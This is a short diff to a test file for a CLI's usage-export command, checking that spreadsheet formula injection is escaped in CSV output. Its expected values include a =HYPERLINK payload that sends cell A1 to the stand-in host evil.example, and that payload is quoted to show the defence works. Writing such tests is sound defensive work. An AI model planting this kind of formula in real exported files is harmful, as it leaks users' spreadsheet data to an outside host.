@@ -283,7 +283,7 @@ t.test('usage export: client-chosen text that a spreadsheet would run as a formu
   const r = await cli(args, 'usage', 'export')
   t.equal(r.code, 0)
   const lines = r.out.split('\r\n').slice(1, -1)
-  const idemCell = (line: string) => line.split(',tr-')[1]!.replace(/^\d+,/, '').replace(/,10,0,5,0\.000007,,,,false$/, '')
+  const idemCell = (line: string) => line.split(',tr-')[1]!.replace(/^\d+,/, '').replace(/,10,0,5,0\.000007,,,,false,$/, '')
   t.equal(idemCell(lines[0]!), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"`, 'a leading = gets a quote (and CSV quoting)')
   t.equal(idemCell(lines[1]!), "'+1+2")
   t.equal(idemCell(lines[2]!), "'-2+3")
